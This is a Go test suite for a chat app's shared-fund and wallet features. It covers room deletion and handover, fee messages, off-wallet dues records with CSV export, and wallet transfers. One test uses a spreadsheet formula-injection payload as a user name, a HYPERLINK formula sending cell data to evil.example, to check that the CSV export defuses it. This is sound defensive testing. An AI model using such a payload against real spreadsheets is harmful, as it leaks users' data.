package main

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"moim/teststack"
)

// TestRoomWithMoneyCannotBeDeleted: a fund holding money keeps its room
// (409 fund_not_empty) until refunds and spends bring it to zero; the
// owner can hand the room over instead; leaving, being removed and the
// deletion cancel auto-pay orders, announced in the chat.
func TestRoomWithMoneyCannotBeDeleted(t *testing.T) {
	n := startTestNode(t, testConfig(t))
	owner, treasurer, leaver := n.user(t, "Owner"), n.user(t, "Next treasurer"), n.user(t, "Leaver")
	room := owner.createRoom(map[string]any{"name": "Club", "member_ids": []int64{treasurer.id, leaver.id}})
	rp := urlf("/api/rooms/%d", room.ID)
	owner.must(201, "POST", rp+"/fund", map[string]any{"currency": "KRW"}, nil)
	for _, c := range []*client{treasurer, leaver} {
		c.must(201, "POST", "/api/wallet/topups", map[string]any{"amount": 100000, "idempotency_key": "t"}, nil)
		c.must(201, "POST", rp+"/fund/pay", map[string]any{"amount": 50000, "period": "2026-11", "idempotency_key": "p"}, nil)
		c.must(201, "POST", "/api/schedules", map[string]any{"room_id": room.ID, "amount": 10000, "day_of_month": 5}, nil)
	}
	owner.fails(409, "fund_not_empty", "DELETE", rp, nil)
	owner.fails(409, "owner_cannot_leave", "POST", rp+"/leave", nil)

	// Leaving cancels the leaver's order and says so in the chat.
	leaver.must(204, "POST", rp+"/leave", nil, nil)
	if s := leaver.schedules(); len(s) != 1 || s[0].State != "cancelled" {
		t.Fatalf("the leaver's orders: %+v", s)
	}
	eventually(t, "the cancellation announced", func() bool { return len(feeEvents(owner, room.ID, "autopay_cancelled")) == 1 })

	// The owner hands the room over; the old owner stays as an admin.
	owner.fails(404, "not_found", "PUT", rp+"/owner", map[string]any{"user_id": leaver.id})
	treasurer.fails(403, "forbidden", "PUT", rp+"/owner", map[string]any{"user_id": treasurer.id})
	var v roomView
	owner.must(200, "PUT", rp+"/owner", map[string]any{"user_id": treasurer.id}, &v)
	if v.OwnerID != treasurer.id || v.Role != "admin" || owner.kit().Roles()[room.ID] != "admin" || treasurer.kit().Roles()[room.ID] != "owner" {
		t.Fatalf("after the handover: %+v, roles %v / %v", v, owner.kit().Roles(), treasurer.kit().Roles())
	}
	owner.fails(403, "forbidden", "DELETE", rp, nil)
	treasurer.fails(409, "fund_not_empty", "DELETE", rp, nil)

	// Settle: refund both members what they paid, then delete.
	for _, c := range []*client{treasurer, leaver} {
		treasurer.must(201, "POST", rp+"/fund/refund", map[string]any{"user_id": c.id, "amount": 50000, "memo": "정산", "idempotency_key": fmt.Sprint("r", c.id)}, nil)
	}
	treasurer.must(204, "DELETE", rp, nil, nil)
	if s := treasurer.schedules(); len(s) != 1 || s[0].State != "cancelled" {
		t.Fatalf("the deleted room's orders: %+v", s)
	}
	// A late payment into the deleted room's fund is refused, never stranded.
	treasurer.fails(404, "not_found", "POST", rp+"/fund/pay", map[string]any{"amount": 1000, "idempotency_key": "late"})
	if treasurer.balance() != 100000 || leaver.balance() != 100000 {
		t.Fatalf("wallets %d and %d after settling, want 100000 each", treasurer.balance(), leaver.balance())
	}
	checkBooks(t, n)
}

var _ = alsoOn(onMemory, TestFeeMessagesCannotBeDeleted)

// TestFeeMessagesCannotBeDeleted: the room's record of its money stays,
// whoever asks; its words are Korean only (clients render the structured
// fee object in the reader's language).
func TestFeeMessagesCannotBeDeleted(t *testing.T) {
	n := startTestNode(t, testConfig(t))
	owner, member := n.user(t, "Owner"), n.user(t, "Member")
	room := owner.createRoom(map[string]any{"name": "Club", "member_ids": []int64{member.id}})
	rp := urlf("/api/rooms/%d", room.ID)
	owner.must(201, "POST", rp+"/fund", map[string]any{"currency": "KRW"}, nil)
	wo := n.connect(owner)
	member.must(201, "POST", "/api/wallet/topups", map[string]any{"amount": 10000, "idempotency_key": "t"}, nil)
	member.must(201, "POST", rp+"/fund/pay", map[string]any{"amount": 10000, "idempotency_key": "p"}, nil)
	var fee frameMsg
	for fee.Kind != "fee" {
		fee = wo.await("msg")
	}
	if strings.Contains(fee.Body, "KRW") || strings.Contains(fee.Body, "paid") || !strings.Contains(fee.Body, "10,000원") {
		t.Fatalf("fee body %q: want Korean only", fee.Body)
	}
	wo.send(map[string]any{"type": "delete", "room": room.ID, "seq": fee.Seq})
	if f := wo.await("error"); f.Code != "forbidden" {
		t.Fatalf("the owner deleting a fee message: %+v", f)
	}
	if len(feeEvents(owner, room.ID, "dues")) != 1 {
		t.Fatal("the fee message is gone")
	}
}

// TestBooksReconcileOffWalletRecords: cash records and waivers are lines
// of the ledger and the CSV, marked off-wallet and outside the balance,
// and announced; a waiver needs a dues rule for its period; CSV cells a
// spreadsheet would run as formulas are defused.
func TestBooksReconcileOffWalletRecords(t *testing.T) {
	n := startTestNode(t, testConfig(t))
	owner := n.user(t, "Owner")
	cash, waived := n.user(t, `=HYPERLINK("http://evil.example/?x="&A1,"click")`), n.user(t, "Waived")
	room := owner.createRoom(map[string]any{"name": "Club", "member_ids": []int64{cash.id, waived.id}})
	rp := urlf("/api/rooms/%d", room.ID)
	owner.must(201, "POST", rp+"/fund", map[string]any{"currency": "KRW"}, nil)
	owner.fails(409, "no_dues", "POST", rp+"/dues/waivers", map[string]any{"user_id": waived.id, "period": "2026-01"})
	owner.must(200, "PUT", rp+"/dues", map[string]any{"amount": 30000, "period": "monthly", "due_day": 28}, nil)
	period := time.Now().In(kst).Format("2006-01")
	owner.must(201, "POST", rp+"/dues/records", map[string]any{"user_id": cash.id, "period": period, "amount": 30000, "memo": "+현금 cash"}, nil)
	owner.must(201, "POST", rp+"/dues/waivers", map[string]any{"user_id": waived.id, "period": period, "memo": "학생"}, nil)
	var ledger struct {
		Entries   []map[string]any `json:"entries"`
		OffWallet []struct {
			Kind      string `json:"kind"`
			MemberID  int64  `json:"member_id"`
			Amount    int64  `json:"amount"`
			OffWallet bool   `json:"off_wallet"`
		} `json:"off_wallet"`
	}
	owner.must(200, "GET", rp+"/fund/ledger", nil, &ledger)
	if len(ledger.Entries) != 0 || len(ledger.OffWallet) != 2 || ledger.OffWallet[0].Kind != "waiver" || ledger.OffWallet[1].Kind != "record" ||
		ledger.OffWallet[1].Amount != 30000 || !ledger.OffWallet[1].OffWallet {
		t.Fatalf("ledger %+v", ledger)
	}
	if f := owner.fund(room.ID); f.Balance != 0 {
		t.Fatalf("a cash record moved the fund's balance to %d", f.Balance)
	}
	if paid, state := teststack.MemberDues(owner.kit(), room.ID, cash.id, period); paid != 30000 || state != "paid" {
		t.Fatalf("cash payer: %d %s", paid, state)
	}
	_, raw := owner.raw("GET", rp+"/fund/ledger?format=csv", nil)
	csv := string(raw)
	if !strings.Contains(csv, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`) || !strings.Contains(csv, "'+현금 cash") ||
		!strings.Contains(csv, "off-wallet") || strings.Count(csv, "\n") != 3 {
		t.Fatalf("csv:\n%s", csv)
	}
	eventually(t, "both announced", func() bool {
		return len(feeEvents(owner, room.ID, "dues_record")) == 1 && len(feeEvents(owner, room.ID, "dues_waiver")) == 1
	})
}

// TestMemberTransfers: 송금 moves money between wallets once per key,
// refuses overdrafts and remembers it, and is a fee card in the 1:1 chat
// that shows neither party's balance.
func TestMemberTransfers(t *testing.T) {
	n := startTestNode(t, testConfig(t))
	alice, bob := n.user(t, "Alice"), n.user(t, "Bob")
	alice.must(201, "POST", "/api/wallet/topups", map[string]any{"amount": 20000, "idempotency_key": "t"}, nil)
	var tr, again struct {
		ID     int64 `json:"id"`
		RoomID int64 `json:"room_id"`
		Kind   string
	}
	send := map[string]any{"to_user_id": bob.id, "amount": 15000, "memo": "저녁값", "idempotency_key": "s1"}
	alice.must(201, "POST", "/api/wallet/transfers", send, &tr)
	alice.must(200, "POST", "/api/wallet/transfers", send, &again)
	if tr.ID != again.ID || tr.Kind != "transfer" || alice.balance() != 5000 || bob.balance() != 15000 {
		t.Fatalf("transfer %+v then %+v; wallets %d and %d", tr, again, alice.balance(), bob.balance())
	}
	alice.fails(409, "insufficient_funds", "POST", "/api/wallet/transfers", map[string]any{"to_user_id": bob.id, "amount": 5001, "idempotency_key": "s2"})
	alice.fails(409, "idempotency_conflict", "POST", "/api/wallet/transfers", map[string]any{"to_user_id": bob.id, "amount": 5000, "idempotency_key": "s2"})
	alice.fails(400, "validation", "POST", "/api/wallet/transfers", map[string]any{"to_user_id": alice.id, "amount": 1, "idempotency_key": "s3"})
	alice.fails(404, "not_found", "POST", "/api/wallet/transfers", map[string]any{"to_user_id": 987654, "amount": 1, "idempotency_key": "s4"})
	var direct roomView
	bob.must(200, "POST", "/api/rooms/direct", map[string]any{"user_id": alice.id}, &direct)
	if direct.ID != tr.RoomID {
		t.Fatalf("transfer announced in room %d, the 1:1 chat is %d", tr.RoomID, direct.ID)
	}
	eventually(t, "the transfer card in the 1:1 chat", func() bool {
		ev := feeEvents(bob, direct.ID, "transfer")
		return len(ev) == 1 && ev[0].Fee["balance_after"] == nil && ev[0].Fee["from"] == float64(alice.id) && strings.Contains(ev[0].Body, "15,000원")
	})
	checkBooks(t, n)
}
